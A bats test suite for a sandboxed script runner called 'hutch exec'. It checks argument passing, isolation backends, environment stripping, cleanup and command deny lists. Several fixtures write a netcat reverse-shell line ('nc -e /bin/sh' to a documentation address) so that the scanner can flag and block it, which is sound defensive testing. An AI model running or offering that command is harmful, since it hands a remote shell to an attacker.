#!/usr/bin/env bats
# hutch exec: scripts, scanned first.
load helper

setup() {
        W=$(mktemp -d "$HUTCH_TMP/exec.XXXXXX")
        cd "$W" || return 1
}
teardown() {
        cd /
        rm -rf "$W"
}

@test "exec: Python, shell and binary scripts get their arguments exactly" {
        printf 'import sys\nprint(sys.argv[1:])\n' >a.py
        run "$HUTCH_BUILD/hutch" exec a.py 'a b' '' "q'\""
        [ "$status" -eq 0 ]
        [ "$output" = "['a b', '', 'q\\'\"']" ]
        printf 'printf "[%%s]" "$@"\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec a.sh 'a b' ''
        [ "$output" = "[a b][]" ]
        cp /bin/echo bin
        run "$HUTCH_BUILD/hutch" exec bin 'a  b'
        [ "$output" = "a  b" ]
}

@test "exec: a critical finding refuses the script before it starts" {
        printf 'echo started\nnc -e /bin/sh 192.0.2.1 1\n' >bad.sh
        run "$HUTCH_BUILD/hutch" exec bad.sh
        [ "$status" -eq 125 ]
        [[ $output == *"bad.sh:2:1: critical: shell-reverse-shell"* && $output != *started* ]]
        run bash -c '"$HUTCH_BUILD/hutch" exec --json bad.sh 2>/dev/null'
        [[ $output == *policy_refused* && $output != *started* ]]
        printf 'nc -e /bin/sh 192.0.2.1 1 # hutch:allow shell-reverse-shell trust me\n' >bad.sh
        run "$HUTCH_BUILD/hutch" exec bad.sh
        [ "$status" -eq 125 ]
}

@test "exec: a text that sh runs is scanned as one, whatever its name and first line" {
        cp /bin/sh mysh
        for first in '' '#!/usr/bin/nice sh' '#!/lib64/ld-linux-x86-64.so.2 /bin/sh' '#!./mysh' '#!/usr/bin/../../bin/sh' '#!'; do
                printf '%s\necho st""arted; nc -e /bin/sh 192.0.2.1 1\n' "$first" >text && chmod +x text
                run "$HUTCH_BUILD/hutch" exec text
                [[ $status -eq 125 && $output == *"text:2:"*"shell-reverse-shell"* && $output != *started* ]] || { echo "$first: $output"; return 1; }
        done
        printf '\177ELF\necho st""arted\n' >elf && printf '\177ELF\0\necho st""arted\n' >elf0 && chmod +x elf elf0
        for iso in namespace landlock none; do
                for f in elf elf0; do
                        run "$HUTCH_BUILD/hutch" exec --isolation $iso $f
                        [[ $status -ne 0 && $output != *started* ]] || { echo "$iso $f: $output"; return 1; }
                done
        done
        printf 'echo fine "$@"\n' >plain && chmod +x plain
        run "$HUTCH_BUILD/hutch" exec plain 'a  b'
        [ "$output" = 'fine a  b' ]
}

@test "exec: the workspace is read-only" {
        printf 'touch new 2>/dev/null || echo no\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec a.sh
        [ "$output" = no ]
        [ ! -e new ]
}

@test "exec: variables that choose code are stripped, explicit values too, and the result says which" {
        printf 'echo "${PYTHONPATH-none} ${LD_PRELOAD-none} ${MINE-none}"\n' >a.sh
        PYTHONPATH=/x run "$HUTCH_BUILD/hutch" exec --env PYTHONPATH a.sh
        [ "$output" = "none none none" ]
        printf 'LD_PRELOAD=/x\n' >vars
        run "$HUTCH_BUILD/hutch" exec --json --env PYTHONPATH=/x --env-file vars --env MINE=1 --env PATH=/nowhere a.sh
        [[ $output == *'none none 1'* && $output == *'"subject":"PYTHONPATH"'* && $output == *'"subject":"LD_PRELOAD"'* && $output == *'"subject":"PATH"'* ]]
}

@test "exec: env.only replaces the usual variables, and patterns block" {
        printf 'env\n' >a.sh
        LANG=C FOO_A=1 FOO_B=2 run "$HUTCH_BUILD/hutch" exec --env-only 'FOO_*' --env-block 'FOO_B*' a.sh
        [[ $output == *FOO_A=1* && $output != *FOO_B=* && $output != *LANG=* && $output == *PATH=* ]]
}

@test "exec: {baseDir} is the skill's directory, attached read-only" {
        mkdir skill && echo data >skill/f
        mkdir w && printf 'cat "$1/f"; touch "$1/g" 2>/dev/null || echo ro\n' >w/a.sh
        cd w
        run "$HUTCH_BUILD/hutch" exec --skill-dir ../skill a.sh '{baseDir}'
        [ "$output" = $'data\nro' ]
}

@test "exec: the private directory is gone after success, failure, a kill, and after SIGKILL by the next start" {
        mkdir -m 700 run w && cd w
        printf 'echo x >"$TMPDIR/f"; mkdir -p "$TMPDIR/d"; chmod 0 "$TMPDIR/d"; [ "$HOME" = "$TMPDIR" ] || exit 9; eval "${1:-true}"\n' >a.sh
        for iso in namespace landlock none; do
                one() { run "$HUTCH_BUILD/hutch" exec --isolation $iso --temp-dir ../run --scan-block never "$@"; }
                one a.sh
                [ "$status" -eq 0 ] && [ -z "$(ls ../run)" ]
                one a.sh 'exit 3'
                [ "$status" -eq 3 ] && [ -z "$(ls ../run)" ]
                one --timeout 300ms a.sh 'sleep 100'
                [ "$status" -eq 124 ] && [ -z "$(ls ../run)" ]
        done
        "$HUTCH_BUILD/hutch" exec --temp-dir ../run --scan-block never a.sh 'sleep 30' 3>&- &
        pid=$!
        for _ in {1..200}; do [ -z "$(ls ../run)" ] || break; sleep 0.1; done
        [ -n "$(ls ../run)" ]
        kill -9 $pid
        wait $pid || true
        for _ in {1..100}; do
                "$HUTCH_BUILD/hutch" exec --temp-dir ../run --scan-block never a.sh
                [ -n "$(ls ../run)" ] || break
                sleep 0.1
        done
        [ -z "$(ls ../run)" ]
}

@test "exec: arguments arrive exactly on every backend, from Python, Node, shell and binary scripts" {
        printf 'import sys, json\nprint(json.dumps(sys.argv[1:]))\n' >a.py
        printf 'console.log(JSON.stringify(process.argv.slice(2)))\n' >a.mjs
        printf 'printf "[%%s]" "$@"\n' >a.sh
        cp /usr/bin/printf bin
        for iso in namespace landlock; do
                run "$HUTCH_BUILD/hutch" exec --isolation $iso a.py 'a b' '' $'q"\'\nn'
                [ "$output" = '["a b", "", "q\"'"'"'\nn"]' ]
                run "$HUTCH_BUILD/hutch" exec --isolation $iso a.sh 'a b' '' $'q"\'\nn'
                [ "$output" = $'[a b][][q"\'\nn]' ]
                run "$HUTCH_BUILD/hutch" exec --isolation $iso bin '[%s]' 'a b' '' $'q"\'\nn'
                [ "$output" = $'[a b][][q"\'\nn]' ]
                [ -x /usr/bin/node ] || continue
                run "$HUTCH_BUILD/hutch" exec --isolation $iso a.mjs 'a b' '' $'q"\'\nn'
                [ "$output" = '["a b","","q\"'"'"'\nn"]' ]
        done
}

@test "exec: files that the script leaves are listed with sizes and collected; links are not followed" {
        printf 'mkdir "$TMPDIR/d"; printf 12345 >"$TMPDIR/d/five"; ln -s /etc/passwd "$TMPDIR/link"; ln -s .. "$TMPDIR/up"; mkfifo "$TMPDIR/fifo"; chmod 4755 "$TMPDIR/d/five"\n' >a.sh
        for iso in namespace landlock; do
                run "$HUTCH_BUILD/hutch" exec --isolation $iso --json --collect out-$iso a.sh
                [[ $output == *'"output_files":[{"path":"d/five","size":5}]'* ]]
                [ "$(find out-$iso -mindepth 1 | sort | tr '\n' ' ')" = "out-$iso/d out-$iso/d/five " ]
                [ ! -u out-$iso/d/five ]
        done
        run "$HUTCH_BUILD/hutch" exec --collect out-landlock a.sh
        [[ $status -eq 125 && $output == *"is not empty"* ]]
        ln -s /tmp linked
        run "$HUTCH_BUILD/hutch" exec --collect linked a.sh
        [[ $status -eq 125 && ! -e /tmp/d/five ]]
}

@test "exec: files and directories that the script made unreadable are listed and collected" {
        printf 'mkdir "$TMPDIR/d"; echo 1 >"$TMPDIR/d/f"; chmod 0 "$TMPDIR/d/f" "$TMPDIR/d"; chmod 0 "$TMPDIR"; exit 3\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec --json --collect out a.sh
        [[ $status -eq 3 && $output == *'"output_files":[{"path":"d/f","size":2}]'* && $(cat out/d/f) = 1 ]]
}

@test "exec: only shells that the scanner reads are run as shell scripts" {
        printf '#!/usr/bin/tclsh\nputs hi\n' >k
        run "$HUTCH_BUILD/hutch" exec --check --json --runtime shell k
        [ "$status" -eq 0 ]
        printf '#!/bin/echo sh\nputs hi\n' >k && chmod +x k
        run "$HUTCH_BUILD/hutch" exec k a
        [[ $output == "sh "*"k a" ]]
}

@test "exec: kills and limits give the promised fields" {
        printf 'echo before; eval "$1"\n' >a.sh
        one() { run bash -c '"$HUTCH_BUILD/hutch" exec --scan-block never --json "$@" 2>/dev/null' _ "$@"; }
        one --timeout 300ms a.sh 'sleep 100'
        [[ $output == *'"exit_code":124'*'before'*'"killed":true,"kill_reason":"timeout"'* ]]
        one --output-cap 1K a.sh 'head -c 100000 /dev/zero | tr "\\0" x; exit 4'
        [[ $output == *'"exit_code":4'*'"killed":false'* && $output != *'"truncated":{"stdout":0,'* ]]
        one --cpu-time 300ms --allow-degraded --isolation namespace a.sh 'while :; do :; done'
        [[ $output == *'"kill_reason":"cpu"'* ]]
        one --memory 64M --allow-degraded --isolation namespace a.sh 'x=$(head -c 300000000 /dev/zero | tr "\\0" y); echo ${#x}'
        [[ $output != *300000000* ]]
}

@test "exec: the origin picks the isolation, what is unavailable is refused, and what is weaker contradicts" {
        printf 'true\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec --json --origin builtin a.sh
        [[ $output == *'"backend":"none"'* ]]
        run "$HUTCH_BUILD/hutch" exec --json --origin community a.sh
        [[ $status -eq 0 && $output != *'"backend":"none"'* ]]
        run "$HUTCH_BUILD/hutch" exec --json --origin untrusted a.sh
        [[ $output == *'"backend":"container"'* || $status -eq 125 ]]
        run "$HUTCH_BUILD/hutch" exec --origin untrusted --isolation none a.sh
        [[ $status -eq 125 && $output == *"is weaker"* ]]
}

@test "exec: interpreters are never found by PATH, and those of a person's configuration are taken" {
        mkdir -p evil && printf '#!/bin/sh\necho evil\n' >evil/python3 && chmod +x evil/python3
        printf 'print("good")\n' >a.py
        PATH=$PWD/evil:$PATH run "$HUTCH_BUILD/hutch" exec a.py
        [ "$output" = good ]
        run "$HUTCH_BUILD/hutch" exec --interpreter python="$PWD/evil/python3" a.py
        [ "$output" = evil ]
        printf '#!/usr/bin/env bash\necho "${BASH_VERSION:+bash}"\n' >b.sh
        run "$HUTCH_BUILD/hutch" exec b.sh
        [ "$output" = bash ]
}

@test "exec: scan.block chooses what refuses a script" {
        printf 'export LD_PRELOAD=/x.so\n' >w.sh
        printf 'nc -e /bin/sh 192.0.2.1 1 2>/dev/null; echo ran\n' >c.sh
        run "$HUTCH_BUILD/hutch" exec w.sh
        [ "$status" -eq 0 ]
        run "$HUTCH_BUILD/hutch" exec --scan-block warn w.sh
        [ "$status" -eq 125 ]
        run "$HUTCH_BUILD/hutch" exec --scan-block never --json c.sh
        [[ $output == *'ran'*'"findings":[{"rule":"shell-reverse-shell","severity":"critical"'*'"line":1'* ]]
}

@test "exec: the lists of commands are shown in the script with line and column, and kept by the kernel" {
        printf 'f() { true; }\nf\necho a | cat\nenv id\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec --deny-command id a.sh
        [[ $status -eq 125 && $output == *"a.sh:4:"*"command-denied"* ]]
        run "$HUTCH_BUILD/hutch" exec --allow-command cat --allow-command env a.sh
        [[ $status -eq 125 && $output == *"a.sh:4:"*"command-not-allowed"* && $output != *"a.sh:2:"* ]]
        run "$HUTCH_BUILD/hutch" exec --allow-command cat --allow-command env --scan-block never a.sh
        [[ $output == *"ermission denied"* && $output != *uid=* ]]
        printf 'import subprocess\nsubprocess.run(["id"])\n' >a.py
        run "$HUTCH_BUILD/hutch" exec --deny-command id a.py
        [[ $status -eq 125 && $output == *"a.py:2:"*"command-denied"* ]]
        run "$HUTCH_BUILD/hutch" exec --deny-command id --scan-block never a.py
        [[ $status -ne 0 && $output != *uid=* && $output == *PermissionError* ]]
}

@test "exec: --check reports every problem at once" {
        printf 'nc -e /bin/sh 192.0.2.1 1\nid\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec --check --isolation landlock --origin untrusted --cpu-time 3s --disk 1G --deny-command id --env LD_PRELOAD=x --skill-dir nosuch --interpreter shell=/nosuch a.sh
        [ "$status" -eq 125 ]
        for word in reverse-shell command-denied LD_PRELOAD 'skill-dir: nosuch' 'is not a program' weaker cpu disk; do
                [[ $output == *"$word"* ]] || { echo "no $word in: $output"; return 1; }
        done
        run "$HUTCH_BUILD/hutch" exec --check --json --cpu-time 3s --isolation landlock a.sh
        [[ $output == '[{"part":"'*limits*']' ]]
        printf 'true\n' >b.sh
        run "$HUTCH_BUILD/hutch" exec --check b.sh
        [ "$status" -eq 0 ] && [ "$output" = "no problems" ]
}

@test "run: a word that is no command but a file here is run as a script, with the workspace of run" {
        printf 'echo hi >made; echo ran "$@"\n' >my-script.sh
        run "$HUTCH_BUILD/hutch" run my-script.sh 'a  b'
        [ "$output" = "ran a  b" ] && [ "$(cat made)" = hi ]
        printf 'nc -e /bin/sh 192.0.2.1 1\n' >my-script.sh
        run "$HUTCH_BUILD/hutch" my-script.sh
        [ "$status" -eq 125 ]
}
